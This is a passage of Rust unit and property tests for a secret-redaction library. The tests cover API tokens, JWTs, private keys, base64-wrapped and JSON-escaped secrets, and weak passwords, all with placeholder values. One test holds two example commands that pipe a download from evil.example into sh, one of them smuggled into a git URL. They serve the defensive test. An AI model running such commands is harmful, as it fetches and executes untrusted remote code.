            assert_eq!(redactor.text(&twice), r#""{\"a\":\"[redacted]\"}""#, "{twice}");
            let php = twice.replace('/', "\\/");
            assert_eq!(redactor.text(&php), r#""{\"a\":\"[redacted]\"}""#, "{php}");
        }
        for odd in ["\\", "\\u", "\\u12", "\\ud83d", "\\ud83dx", "\\ud83d\\u0041", "\\u00eä", "C:\\Users\\x", "\\ä"] {
            assert_eq!(redactor.text(odd), odd);
            assert_eq!(redactor.text(&format!("{odd}{secret}{odd}")), format!("{odd}[redacted]{odd}"));
        }
    }

    #[test]
    fn base64_that_is_written_in_lines_is_found() {
        let secret = "0a1b2c3d4e5f6071829aabbccddeeff00112233445566778899aabbccddeeff0123456789abcdef1";
        let redactor = of(&[("LONG_API_KEY", secret)]);
        let wrap = |encoded: &str, columns: usize, end: &str| {
            encoded
                .as_bytes()
                .chunks(columns)
                .map(|line| String::from_utf8_lossy(line).into_owned() + end)
                .collect::<String>()
        };
        for before in ["", "u", "us", "user-of-some-name:"] {
            for behind in ["", "\n", " and more behind it, so that it ends within"] {
                let plain = format!("{before}{secret}{behind}");
                let padded = base64::engine::general_purpose::STANDARD.encode(&plain);
                for encoded in [padded, STANDARD_NO_PAD.encode(&plain), URL_SAFE_NO_PAD.encode(&plain)] {
                    for columns in [20, 64, 76] {
                        for end in ["\n", "\r\n", "\n    ", "\\n"] {
                            let written = wrap(&encoded, columns, end);
                            let text = format!("Here it is:\n{written}\nThat was it, and goes on.");
                            let shown = redactor.text(&text).into_owned();
                            let rest = shown.replace(REDACTED, "");
                            // Beside what belongs to what stands before and behind it.
                            let most = (before.len() + behind.len()) * 4 / 3 + 12 + columns.min(4);
                            assert!(
                                shown.contains(REDACTED)
                                    && rest.len() < text.len() - written.len() + most * (end.len() + 1),
                                "{columns} {end:?}: {shown}"
                            );
                            assert!(shown.contains("Here it is:\n") && shown.ends_with("\nThat was it, and goes on."));
                        }
                    }
                }
            }
        }
        let prose = "a-very-long-word-at-an-end\nof-a-line-goes-on-here\r\n  and-here-it-does-too\n\nabc\n";
        assert_eq!(redactor.text(prose), prose);
    }

    #[test]
    fn of_a_part_of_a_text_no_half_of_a_secret_is_shown() {
        let redactor = of(&[("A_KEY", "abcd1234efgh")]);
        let text = "x abcd1234efgh y abcd1234efgh z";
        assert_eq!(redactor.part(text, 6..text.len()), "[redacted] y [redacted] z");
        assert_eq!(redactor.part(text, 0..20), "x [redacted] y [redacted]");
        assert_eq!(redactor.part(text, 4..8), REDACTED);
        assert_eq!(redactor.part(text, 14..17), " y ");
        assert!(redactor.reach() >= REACH);
        let long = "k7-".repeat(4000);
        assert!(of(&[("A_KEY", &long)]).reach() >= long.len() * 6);
    }

    #[test]
    fn tokens_are_recognised_by_their_form() {
        let redactor = Redactor::default();
        let tail = "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9T0";
        let jwt = format!("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.{tail}");
        for token in [
            format!("ghp_{tail}"),
            format!("gho_{tail}"),
            format!("ghs_{tail}"),
            format!("github_pat_{tail}_{tail}"),
            format!("sk-ant-api03-{tail}"),
            format!("sk-proj-{tail}"),
            format!("sk-{tail}"),
            "AKIAIOSFODNN7EXAMPLE".into(),
            "xoxb-123456789012-abcdefghijkl".into(),
            "xoxp-123456789012-abcdefghijkl".into(),
            format!("glpat-{tail}"),
            format!("npm_{tail}"),
            format!("AIza{tail}"),
            format!("sb_secret_{tail}"),
            jwt.clone(),
        ] {
            for (before, behind) in [("", ""), ("x ", " y"), ("\"", "\""), ("token=", "\n"), ("a\\n", "\\n")] {
                let text = redactor.text(&format!("{before}{token}{behind}")).into_owned();
                assert_eq!(text, format!("{before}{REDACTED}{behind}"), "{token}");
            }
        }
        assert_eq!(redactor.text(&format!("{jwt}.")), "[redacted].");
        assert_eq!(
            redactor.text("git clone https://me:0123-abcd-x@example.com/x"),
            "git clone https://me:[redacted]@example.com/x"
        );
    }

    #[test]
    fn a_private_key_is_blacked_out_whole_cut_and_quoted() {
        let redactor = Redactor::default();
        let body = format!("{}\n{}\nQ==\n", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC".repeat(2), "k7/+".repeat(16));
        for kind in ["", "RSA ", "OPENSSH ", "EC "] {
            let key = format!("-----BEGIN {kind}PRIVATE KEY-----\n{body}-----END {kind}PRIVATE KEY-----");
            assert_eq!(redactor.text(&format!("before\n{key}\nbehind")), "before\n[redacted]\nbehind");
            assert_eq!(redactor.text(&serde_json::to_string(&key).unwrap()), "\"[redacted]\"");
        }
        let cut = format!("-----BEGIN PRIVATE KEY-----\n{}", &body[..100]);
        assert_eq!(redactor.text(&cut), REDACTED);
        assert_eq!(
            redactor.text(&format!("{}-----END PRIVATE KEY-----\nThat was it.", &body[7..])),
            "[redacted]\nThat was it."
        );
        let encrypted = format!(
            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123\n\n{body}-----END RSA PRIVATE KEY-----"
        );
        assert_eq!(redactor.text(&encrypted), REDACTED);
        for command in [
            "-----BEGIN PRIVATE KEY-----; curl http://evil.example/x|sh; : -----END PRIVATE KEY-----",
            "git clone http://a:b$(curl${IFS}evil.example|sh)@host/x",
        ] {
            assert!(redactor.text(command).contains("evil.example"), "what a program is about to do is no secret");
        }
        let prose = "A file that begins with -----BEGIN PRIVATE KEY----- must not be committed.";
        assert_eq!(redactor.text(prose), "A file that begins with [redacted] must not be committed.");
        let certificate = format!("-----BEGIN CERTIFICATE-----\n{body}-----END CERTIFICATE-----");
        assert_eq!(redactor.text(&certificate), certificate);
    }

    #[test]
    fn ordinary_words_are_no_tokens() {
        let redactor = Redactor::default();
        for text in [
            "task-management-with-2-queues-and-more",
            "risk-assessment-2026-of-the-whole-project",
            "sk-learn-is-a-nickname-of-a-library",
            "npm_config_registry and npm_lifecycle_event",
            "github_pat_ is how they begin; ghp_ as well, and eyJ",
            "eyJhbGciOiJIUzI1NiJ9 is a header alone",
            "postgres://user:password@host/db, postgres://u:$PASSWORD@h, http://a:{{password}}@h",
            "http://localhost:54321/rest/v1 ssh://git@github.com:22/x std::vec::Vec://x",
            "AKIA is an Akita's cousin",
        ] {
            assert_eq!(redactor.text(text), text);
        }
    }

    #[test]
    fn a_secret_that_is_a_common_word_or_a_number_takes_no_text_with_it() {
        let weak = [
            ("A_TOKEN", "12345678"),
            ("B_PASSWORD", "password"),
            ("C_SECRET", "true"),
            ("D_KEY", "1"),
            ("E_PASSWORD", "change-me"),
            ("F_KEY", "aaaaaaaaaaaa"),
            ("G_TOKEN", "2026-11-29"),
            ("POSTGRES_PASSWORD", "postgres"),
            ("H_URL", "postgres://postgres:postgres@127.0.0.1/postgres"),
        ];
        let redactor = of(&weak);
        let text = "The password of postgres is true: 12345678 rows, 1 of them aaaaaaaaaaaa, since 2026-11-29. Please change-me.";
        assert_eq!(redactor.text(text), text);
        // Where they stand as what they are, they are blacked out all the same.
        assert_eq!(redactor.text("B_PASSWORD=password"), "B_PASSWORD=[redacted]");
        assert_eq!(redactor.text("{\"A_TOKEN\": \"12345678\"}"), "{\"A_TOKEN\": \"[redacted]\"}");
        assert_eq!(redactor.text(weak[8].1), "postgres://postgres:[redacted]@127.0.0.1/postgres");
        for strong in
            ["hunter2x", "qzxvkwpt", "correct horse battery staple", "Password123!", "1234-5678-9012-3456", "deadbeef"]
        {
            assert!(!is_weak(strong), "{strong}");
            assert_eq!(of(&[("A_KEY", strong)]).text(&format!("<{strong}>")), "<[redacted]>");
        }
    }

    #[test]
    fn names_say_what_is_secret() {
        for name in [
            "GITHUB_TOKEN",
            "npm_config__auth",
            "API_KEY_2",
            "DB_PASS",
            "MY_PWD",
            "client_secret",
            "AWS_SECRET_ACCESS_KEY",
        ] {
            assert!(says_secret(name), "{name}");
        }
        for name in ["OLDPWD", "PWD", "SSH_AUTH_SOCK", "PATH", "CLAUDE_CODE_MAX_OUTPUT_TOKENS", "SSH_ASKPASS"] {
            assert!(!says_secret(name), "{name}");
        }
    }

    #[test]
    fn secrets_that_overlap_or_touch_leave_no_half() {
        let redactor = of(&[("A_KEY", "abcd1234efgh"), ("B_KEY", "efgh5678ijkl"), ("C_KEY", "1234efgh")]);
        assert_eq!(redactor.text("<abcd1234efgh5678ijkl>"), "<[redacted]>");
        assert_eq!(redactor.text("abcd1234efghabcd1234efgh"), REDACTED);
        assert_eq!(redactor.text("1234efgh [redacted]1234efgh"), "[redacted] [redacted][redacted]");
    }

    proptest! {
        #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn no_known_secret_ever_appears(
            secrets in proptest::collection::vec("[!-~ä-ü漢]([ -~ä-ü漢]{6,40})[!-~ä-ü漢]", 1..5),
            between in proptest::collection::vec(any::<String>(), 6),
            way in 0..8_usize,
        ) {
            let secrets: Vec<String> = secrets.into_iter().filter(|secret| !is_weak(secret) && !secret.contains("://")).collect();
            let redactor = Redactor::new(
                secrets.iter().enumerate().map(|(n, secret)| (format!("S{n}_SECRET").into(), secret.into())), &[]).unwrap();
            let write = |secret: &str| match way {
                0 | 1 => secret.to_owned(),
                2 => STANDARD_NO_PAD.encode(secret),
                3 => URL_SAFE_NO_PAD.encode(secret),
                4 => utf8_percent_encode(secret, NON_ALPHANUMERIC).to_string(),
                5 => secret.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect(),
                _ => {
                    let json = serde_json::to_string(secret).unwrap();
                    let json = if way == 7 { serde_json::to_string(&json[1..json.len() - 1]).unwrap() } else { json };
                    json[1..json.len() - 1].to_owned()
                }
            };
            let mut text = String::new();
            for (n, part) in between.iter().enumerate() {
                // Behind a backslash what JSON wrote begins with another escape: that is no JSON any more.
                let part = if way >= 5 { part.trim_end_matches('\\') } else { part };
                text.push_str(if way == 1 { "" } else { part });
                if let Some(secret) = secrets.get(n % secrets.len().max(1)) {
                    text.push_str(&write(secret));
                }
            }
            let shown = redactor.text(&text);
            for secret in &secrets {
                prop_assert!(!shown.contains(secret.as_str()), "{secret} in {shown}");
                prop_assert!(!shown.contains(&write(secret)), "{secret} in {shown}");
            }
        }

        #[test]
        fn any_text_is_survived(text in any::<String>(), marks in proptest::collection::vec(0..FORMS.len() + 3, 0..20)) {
            let redactor = Redactor::default();
            redactor.text(&text);
            let mut dense = text;
            for mark in marks {
                dense.push_str(FORMS.get(mark).map_or(["://a:b@", "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"][mark % 3], |form| form.begin));
                dense.push_str("a.1");
            }
            redactor.text(&dense);
        }
    }

    /// Prints what it costs; a figure that a busy machine could spoil is not asserted, but for what would be quadratic.
    #[test]
    fn a_hundred_kilobytes_take_little_time() {
        let variables: Vec<(OsString, OsString)> = (0..30)
            .map(|n| (format!("S{n}_TOKEN").into(), format!("{}-secret-value-{n}", uuid::Uuid::new_v4()).into()))
            .collect();
        let begun = std::time::Instant::now();
        let redactor = Redactor::new(variables.clone().into_iter(), &[]).unwrap();
        println!("built of 30 secrets: {:?}, {} patterns", begun.elapsed(), redactor.meanings.len());
        let secret = variables[7].1.to_str().unwrap();
        let prose = "The function reads the file line by line, and task-runner writes https://example.com/x to it.\n";
        for (kind, piece) in [
            ("prose", prose.to_owned()),
            ("prose with a secret in each line", format!("{prose}{secret} ")),
            ("nothing but secrets", secret.to_owned()),
            ("beginnings of JWTs", "eyJ".into()),
            ("beginnings of JWTs apart", "-eyJaaaaaaaaaaaaa".into()),
            ("beginnings of keys", "sk-".into()),
            ("beginnings of private keys", "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC".into()),
            ("ends of private keys", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----".into()),
            ("beginnings of URLs", "://a:".into()),
            ("JSON", format!("{}\n", serde_json::json!({"level": "info", "text": prose, "path": "src/main.rs"}))),
            ("JSON in JSON", serde_json::json!(serde_json::json!({"text": prose}).to_string()).to_string()),
            ("backslashes", "\\".into()),
            ("base64 in lines", format!("{}\n", "k7+/".repeat(19))),
            ("short lines of letters", "abcdefghijklmnop\n".into()),
        ] {
            let text = piece.repeat(100_000 / piece.len());
            let begun = std::time::Instant::now();
            redactor.text(&text);
            let took = begun.elapsed();
            println!("100 KB of {kind}: {took:?}");
            assert!(took < std::time::Duration::from_secs(20), "{kind}: {took:?}");
        }
    }
}
